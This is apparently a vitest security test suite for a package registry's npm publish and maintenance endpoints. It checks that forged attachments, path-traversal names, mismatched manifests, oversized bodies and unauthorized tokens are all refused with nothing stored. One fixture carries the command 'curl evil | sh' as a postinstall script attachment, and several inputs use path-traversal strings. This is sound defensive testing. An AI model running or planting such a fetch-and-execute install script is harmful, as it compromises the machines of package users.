import { env } from "cloudflare:workers";
import { beforeAll, describe, expect, it } from "vitest";
import {
  HOSTILE_TARBALLS,
  type HostilePublishPath,
  type PackageId,
  runHostileTarball,
  validTarball,
} from "../helpers/hostile-tarballs";
import { skillTarball } from "../helpers/tarball";
import { type Account, call, createAccount, endlessBody, expectRefused, json, storeCounts } from "./helpers";
import { escaped, npmPublish, npmPublishBody, packument, putJson } from "./npm-helpers";

// The npm publish path (`PUT /<name>`) under attack: every hostile tarball of the shared table, then
// what only npm's JSON envelope allows (attachments that lie, manifests that disagree, bodies that
// are not what they claim), then hostile maintenance requests (-rev tricks, strangers, read-only
// tokens). Each answer is a 4xx `{error, code}` and D1 and R2 are unchanged.
// Covered in npm-publish.test.ts already: a length 12 bytes short, manifest name/version differing
// from the tarball, dist.integrity/shasum of other bytes, "!!!" as base64, two `versions`, a document
// for another name, a stranger's scope, a declared length over the limit.

const MIB = 1024 * 1024;
const SKILL = "hostile-npm";
let owner: Account;
let stranger: Account;
let readonly: { Authorization: string };
const pkgFor = (index: number): PackageId => ({ name: `@${owner.handle}/${SKILL}`, version: `1.0.${index}` });

beforeAll(async () => {
  owner = await createAccount();
  stranger = await createAccount();
  // `npm token create --read-only`
  const res = await call("/-/npm/v1/tokens", {
    method: "POST",
    headers: { ...owner.auth, "Content-Type": "application/json" },
    body: JSON.stringify({ password: owner.password, readonly: true }),
  });
  expect(res.status, await res.clone().text()).toBe(201);
  readonly = { Authorization: `Bearer ${(await json<{ token: string }>(res)).token}` };
});

const npmPut: HostilePublishPath = {
  publishBytes: async (bytes, pkg) =>
    putJson(
      `/${escaped(pkg.name)}`,
      await npmPublishBody(pkg.name, { version: pkg.version, tarball: bytes }),
      owner.auth,
    ),
  storeCounts,
};

describe("hostile tarballs via npm PUT /<name>", () => {
  it("control: a valid package with a README and a folder publishes (201)", async () => {
    const pkg = { name: `@${owner.handle}/control-npm`, version: "1.0.0" };
    const res = await npmPut.publishBytes(await validTarball(pkg), pkg);
    expect(res.status, await res.clone().text()).toBe(201);
    expect((await json(res)).version).toBe("1.0.0");
  });

  it.each(HOSTILE_TARBALLS.map((hostile, index) => [hostile.name, hostile, index] as const))(
    "%s → refused, nothing stored",
    async (_name, hostile, index) => {
      await runHostileTarball(hostile, pkgFor(index), npmPut);
    },
    60_000,
  );
});

type PublishBody = Awaited<ReturnType<typeof npmPublishBody>>;
type Attachment = PublishBody["_attachments"][string];

/** A valid publish body for `@owner/envelope-skill@1.0.0`, its attachment, and the file name npm gives it. */
async function validBody() {
  const name = `@${owner.handle}/envelope-skill`;
  const body = await npmPublishBody(name, { version: "1.0.0" });
  const file = Object.keys(body._attachments)[0];
  return { name, body, file, attachment: body._attachments[file] as Attachment };
}
const withAttachments = (body: PublishBody, attachments: Record<string, unknown>) => ({
  ...body,
  _attachments: attachments,
});
const withData = (attachment: Attachment, data: unknown, length: unknown = attachment.length) => ({
  ...attachment,
  data,
  length,
});
/** base64 with a line break every 76 characters, as MIME writes it. */
const mimeWrapped = (data: string) => data.replace(/(.{76})/g, "$1\r\n");

/** One npm-envelope attack: the document to PUT (to the valid body's URL), and the refusal. */
type EnvelopeCase = [
  what: string,
  mutate: (valid: Awaited<ReturnType<typeof validBody>>) => unknown,
  status: number,
  code: string,
];

const envelopeCases: EnvelopeCase[] = [
  // _attachments[].length against the data.
  [
    "_attachments length larger than the data",
    ({ body, file, attachment }) =>
      withAttachments(body, { [file]: { ...attachment, length: attachment.length + 1000 } }),
    400,
    "LENGTH_MISMATCH",
  ],
  [
    "_attachments length one byte short of the data",
    ({ body, file, attachment }) => withAttachments(body, { [file]: { ...attachment, length: attachment.length - 1 } }),
    400,
    "LENGTH_MISMATCH",
  ],
  [
    "_attachments length of zero with data",
    ({ body, file, attachment }) => withAttachments(body, { [file]: { ...attachment, length: 0 } }),
    400,
    "LENGTH_MISMATCH",
  ],
  [
    "_attachments length that is negative",
    ({ body, file, attachment }) => withAttachments(body, { [file]: { ...attachment, length: -1 } }),
    400,
    "INVALID_INPUT",
  ],
  [
    "_attachments length that is a string",
    ({ body, file, attachment }) => withAttachments(body, { [file]: { ...attachment, length: "12" } }),
    400,
    "INVALID_INPUT",
  ],
  [
    "_attachments without a length",
    ({ body, file, attachment }) => withAttachments(body, { [file]: { ...attachment, length: undefined } }),
    400,
    "INVALID_INPUT",
  ],
  // data that is not (standard, padded) base64.
  [
    "data in the base64url alphabet (- and _)",
    ({ body, file, attachment }) =>
      withAttachments(body, {
        [file]: withData(attachment, `${attachment.data.slice(0, -4)}-_${attachment.data.slice(-2)}`),
      }),
    400,
    "INVALID_ATTACHMENT",
  ],
  [
    "data wrapped in lines (MIME base64)",
    ({ body, file, attachment }) =>
      withAttachments(body, { [file]: withData(attachment, mimeWrapped(attachment.data)) }),
    400,
    "INVALID_ATTACHMENT",
  ],
  [
    "data cut mid-quantum (length not a multiple of 4)",
    ({ body, file, attachment }) =>
      withAttachments(body, { [file]: withData(attachment, attachment.data.slice(0, -1)) }),
    400,
    "INVALID_ATTACHMENT",
  ],
  [
    "data with padding in the middle",
    ({ body, file, attachment }) =>
      withAttachments(body, { [file]: withData(attachment, `QQ==${attachment.data}`, attachment.length + 1) }),
    400,
    "INVALID_ATTACHMENT",
  ],
  [
    "data that is an array of bytes",
    ({ body, file, attachment }) => withAttachments(body, { [file]: withData(attachment, [31, 139, 8]) }),
    400,
    "INVALID_INPUT",
  ],
  [
    "data that is null",
    ({ body, file, attachment }) => withAttachments(body, { [file]: withData(attachment, null) }),
    400,
    "INVALID_INPUT",
  ],
  // Which attachments.
  [
    "two .tgz attachments",
    ({ name, body, file, attachment }) =>
      withAttachments(body, { [file]: attachment, [`${name}-1.0.1.tgz`]: attachment }),
    400,
    "ONE_TARBALL",
  ],
  [
    "a .sigstore bundle and no tarball",
    ({ name, body, attachment }) => withAttachments(body, { [`${name}-1.0.0.sigstore`]: attachment }),
    400,
    "ONE_TARBALL",
  ],
  [
    "the tarball plus a script attachment",
    ({ body, file, attachment }) =>
      withAttachments(body, {
        [file]: attachment,
        "postinstall.sh": { content_type: "text/x-sh", data: btoa("curl evil | sh"), length: 14 },
      }),
    400,
    "UNEXPECTED_ATTACHMENT",
  ],
  [
    "attachment named for another version",
    ({ name, body, attachment }) => withAttachments(body, { [`${name}-9.9.9.tgz`]: attachment }),
    400,
    "ATTACHMENT_MISMATCH",
  ],
  [
    "attachment named for another package",
    ({ body, attachment }) => withAttachments(body, { [`@${stranger.handle}/envelope-skill-1.0.0.tgz`]: attachment }),
    400,
    "ATTACHMENT_MISMATCH",
  ],
  [
    "attachment named with a path (../../x.tgz)",
    ({ body, attachment }) => withAttachments(body, { "../../envelope-skill-1.0.0.tgz": attachment }),
    400,
    "ATTACHMENT_MISMATCH",
  ],
  // The manifest against the URL and the tarball.
  ["versions with no entry", ({ body }) => ({ ...body, versions: {} }), 400, "ONE_VERSION"],
  ["versions that is a string", ({ body }) => ({ ...body, versions: "1.0.0" }), 400, "INVALID_INPUT"],
  [
    "manifest name of another publisher, URL and document name mine",
    ({ body }) => ({
      ...body,
      versions: { "1.0.0": { ...body.versions["1.0.0"], name: `@${stranger.handle}/envelope-skill` } },
    }),
    400,
    "MANIFEST_MISMATCH",
  ],
  ["no document name", ({ body }) => ({ ...body, name: undefined }), 400, "NAME_MISMATCH"],
  [
    "dist.integrity that is not an SRI string",
    ({ body }) => ({
      ...body,
      versions: {
        "1.0.0": { ...body.versions["1.0.0"], dist: { ...body.versions["1.0.0"].dist, integrity: "trust me" } },
      },
    }),
    400,
    "INTEGRITY_MISMATCH",
  ],
  [
    "dist.integrity with only a sha1 hash",
    ({ body }) => ({
      ...body,
      versions: {
        "1.0.0": {
          ...body.versions["1.0.0"],
          dist: {
            ...body.versions["1.0.0"].dist,
            integrity: `sha1-${btoa(String.fromCharCode(...hexBytes(body.versions["1.0.0"].dist.shasum)))}`,
          },
        },
      },
    }),
    400,
    "INTEGRITY_MISMATCH",
  ],
  [
    "dist.integrity naming the right bytes next to a wrong shasum",
    ({ body }) => ({
      ...body,
      versions: {
        "1.0.0": { ...body.versions["1.0.0"], dist: { ...body.versions["1.0.0"].dist, shasum: "f".repeat(40) } },
      },
    }),
    400,
    "INTEGRITY_MISMATCH",
  ],
  [
    "a --tag that is a semver range",
    ({ body }) => ({ ...body, "dist-tags": { "^1.0.0": "1.0.0" } }),
    400,
    "INVALID_TAG",
  ],
  [
    "a --tag with a path in it",
    ({ body }) => ({ ...body, "dist-tags": { "../../latest": "1.0.0" } }),
    400,
    "INVALID_TAG",
  ],
];

function hexBytes(hex: string): number[] {
  return hex.match(/../g)!.map((byte) => Number.parseInt(byte, 16));
}

describe("hostile npm publish envelopes", () => {
  it("control: the unmodified body publishes (201)", async () => {
    const account = await createAccount();
    const res = await npmPublish(account, { skill: "envelope-skill" });
    expect(res.status, await res.clone().text()).toBe(201);
  });

  it.each(envelopeCases)("%s → refused, nothing stored", async (_what, mutate, status, code) => {
    const valid = await validBody();
    const before = await storeCounts();
    const res = await putJson(`/${escaped(valid.name)}`, mutate(valid), owner.auth);
    await expectRefused(res, status, code);
    expect(await storeCounts()).toEqual(before);
  });

  it("another skill's tarball under this skill's URL, document name and attachment name → 400 NAME_MISMATCH", async () => {
    const name = `@${owner.handle}/envelope-skill`;
    const other = await npmPublishBody(`@${owner.handle}/other-skill`, { version: "1.0.0" });
    const [attachment] = Object.values(other._attachments);
    const body = { ...other, _id: name, name, _attachments: { [`${name}-1.0.0.tgz`]: attachment } };
    const before = await storeCounts();
    await expectRefused(await putJson(`/${escaped(name)}`, body, owner.auth), 400, "NAME_MISMATCH");
    expect(await storeCounts()).toEqual(before);
  });

  it.each([
    ["malformed JSON (truncated)", "application/json", '{"name":'],
    ["JSON with trailing garbage", "application/json", '{"name":"x"} garbage'],
    ["a JSON array", "application/json", "[]"],
    ["JSON null", "application/json", "null"],
  ])("%s → 400, nothing stored", async (_what, type, text) => {
    const before = await storeCounts();
    const res = await call(`/${escaped(`@${owner.handle}/envelope-skill`)}`, {
      method: "PUT",
      headers: { ...owner.auth, "Content-Type": type },
      body: text,
    });
    await expectRefused(res, 400);
    expect(await storeCounts()).toEqual(before);
  });

  it.each([["text/plain"], ["application/octet-stream"], ["application/x-www-form-urlencoded"], [""]])(
    "Content-Type %j → 415, nothing stored",
    async (type) => {
      const { name, body } = await validBody();
      const before = await storeCounts();
      const res = await call(`/${escaped(name)}`, {
        method: "PUT",
        headers: { ...owner.auth, ...(type ? { "Content-Type": type } : {}) },
        body: JSON.stringify(body),
      });
      await expectRefused(res, 415, "UNSUPPORTED_MEDIA_TYPE");
      expect(await storeCounts()).toEqual(before);
    },
  );
});

describe("npm publish bodies that are too large, or not the caller's to send", () => {
  const path = () => `/${escaped(`@${owner.handle}/big-skill`)}`;
  const put = (headers: Record<string, string>, body: ReadableStream<Uint8Array>) =>
    call(path(), { method: "PUT", headers: { "Content-Type": "application/json", ...headers }, body });

  it("a body declaring more than the limit is refused with 413 before it is read", async () => {
    const { stream, meter } = endlessBody();
    const res = await put({ ...owner.auth, "Content-Length": String(64 * MIB) }, stream);
    await expectRefused(res, 413, "TOO_LARGE");
    expect(meter.pulled).toBeLessThan(MIB);
  });

  it("a body streamed without Content-Length is cut off at the limit with 413, not buffered to the end", async () => {
    const limit = Number(env.MAX_TARBALL_BYTES ?? 10 * MIB);
    const maxPut = Math.ceil(limit / 3) * 4 + 4 * MIB;
    const before = await storeCounts();
    const { stream, meter } = endlessBody();
    const res = await put(owner.auth, stream);
    await expectRefused(res, 413, "TOO_LARGE");
    expect(meter.pulled).toBeGreaterThan(maxPut);
    expect(meter.pulled).toBeLessThan(maxPut + 2 * MIB);
    expect(await storeCounts()).toEqual(before);
  });

  it.each([
    ["no token", () => ({}), 401, "UNAUTHORIZED"],
    ["another publisher's token", () => stranger.auth, 403, "NOT_OWNER"],
    ["a read-only token of the owner", () => readonly, 403, "READONLY_TOKEN"],
  ] as const)("%s → %i before the body is read", async (_what, headers, status, code) => {
    const { stream, meter } = endlessBody();
    await expectRefused(await put(headers(), stream), status, code);
    expect(meter.pulled).toBeLessThan(MIB);
  });

  it("a read-only token cannot publish a valid package; the owner's write token can", async () => {
    const name = `@${owner.handle}/readonly-skill`;
    const body = await npmPublishBody(name);
    const before = await storeCounts();
    await expectRefused(await putJson(`/${escaped(name)}`, body, readonly), 403, "READONLY_TOKEN");
    expect(await storeCounts()).toEqual(before);
    expect((await putJson(`/${escaped(name)}`, body, owner.auth)).status).toBe(201);
  });
});

describe("hostile npm maintenance requests", () => {
  /** A skill of the owner's with two versions, its write document and a snapshot of the state. */
  async function published(skill: string) {
    for (const version of ["1.0.0", "1.1.0"]) {
      expect((await npmPublish(owner, { skill, version })).status).toBe(201);
    }
    const name = `@${owner.handle}/${skill}`;
    const res = await call(`/${escaped(name)}?write=true`, { headers: owner.auth });
    const doc = (await res.json()) as { _rev: string; versions: Record<string, { deprecated?: string }> };
    const state = async () => ({ doc: (await packument(name)).body, stores: await storeCounts() });
    return { name, path: `/${escaped(name)}`, doc, rev: doc._rev, before: await state(), state };
  }

  it.each([
    ["an empty revision", ""],
    ["a revision that is a word", "latest"],
    ["a revision without its hash", "1-"],
    ["a revision of 400 digits", `${"9".repeat(400)}-abc`],
    ["a revision with a path in it", "..%2f..%2f1-abc"],
  ])("unpublish naming %s → 400 INVALID_REV, nothing changes", async (_what, rev) => {
    const skill = await published(`rev-${Math.random().toString(36).slice(2, 8)}`);
    const { doc } = skill;
    delete doc.versions["1.0.0"];
    await expectRefused(await putJson(`${skill.path}/-rev/${rev}`, doc, owner.auth), 400, "INVALID_REV");
    const del = await call(`${skill.path}/-rev/${rev}`, { method: "DELETE", headers: owner.auth });
    await expectRefused(del, 400, "INVALID_REV");
    expect(await skill.state()).toEqual(skill.before);
  });

  it("PUT to a -rev path with more segments, or to /-rev/ alone, is a 404 and changes nothing", async () => {
    const skill = await published("rev-paths");
    for (const path of [`${skill.path}/-rev/${skill.rev}/extra`, `${skill.path}/-rev`, `${skill.path}/x/y`]) {
      await expectRefused(await putJson(path, skill.doc, owner.auth), 404);
    }
    expect(await skill.state()).toEqual(skill.before);
  });

  it("a stranger's or a read-only token's unpublish, deprecate or dist-tag move → 403; nothing changes", async () => {
    const skill = await published("guarded-maint");
    const tarball = `${skill.path}/-/guarded-maint-1.0.0.tgz/-rev/${skill.rev}`;
    const deprecated = { ...skill.doc, versions: { ...skill.doc.versions, "1.0.0": { deprecated: "hijacked" } } };
    for (const [auth, code] of [
      [stranger.auth, "NOT_OWNER"],
      [readonly, "READONLY_TOKEN"],
    ] as const) {
      await expectRefused(
        await call(`${skill.path}/-rev/${skill.rev}`, { method: "DELETE", headers: auth }),
        403,
        code,
      );
      await expectRefused(await call(tarball, { method: "DELETE", headers: auth }), 403, code);
      await expectRefused(await putJson(skill.path, deprecated, auth), 403, code);
      await expectRefused(
        await putJson(`${skill.path}/-rev/${skill.rev}`, { ...skill.doc, versions: {} }, auth),
        403,
        code,
      );
      await expectRefused(
        await putJson(`/-/package/${escaped(skill.name)}/dist-tags/latest`, "1.0.0", auth),
        403,
        code,
      );
    }
    expect(await skill.state()).toEqual(skill.before);
  });

  it("DELETE of a tarball path naming another package, a traversal or no version → 404; nothing changes", async () => {
    const skill = await published("delete-paths");
    for (const file of [
      `other-skill-1.0.0.tgz`,
      `..%2f..%2fdelete-paths-1.0.0.tgz`,
      `delete-paths-.tgz`,
      `delete-paths-1.0.0.tar`,
      `@${stranger.handle}/delete-paths-1.0.0.tgz`,
    ]) {
      const res = await call(`${skill.path}/-/${file}/-rev/${skill.rev}`, { method: "DELETE", headers: owner.auth });
      await expectRefused(res, [400, 404]);
    }
    expect(await skill.state()).toEqual(skill.before);
  });

  it("a deprecate PUT carrying a new version (without a tarball) → 400 UNKNOWN_VERSION; nothing changes", async () => {
    const skill = await published("sneaky-version");
    const doc = { ...skill.doc, versions: { ...skill.doc.versions, "9.9.9": { name: skill.name, version: "9.9.9" } } };
    await expectRefused(await putJson(skill.path, doc, owner.auth), 400, "UNKNOWN_VERSION");
    expect(await skill.state()).toEqual(skill.before);
  });
});

describe("both publish paths", () => {
  it("a tarball refused by POST /skills is refused by npm PUT with the same code", async () => {
    const pkg = { name: `@${owner.handle}/agree-skill`, version: "1.0.0" };
    const bytes = await skillTarball({ ...pkg, extra: [{ path: "package/CON", content: "x" }] });
    const viaApi = await call(`/skills/${owner.handle}/agree-skill/publish`, {
      method: "POST",
      headers: { ...owner.auth, "Content-Type": "application/gzip" },
      body: bytes,
    });
    const viaNpm = await npmPut.publishBytes(bytes, pkg);
    const [a, b] = [await expectRefused(viaApi, 400), await expectRefused(viaNpm, 400)];
    expect(a.code).toBe("UNSAFE_PATH");
    expect(b.code).toBe(a.code);
  });
});
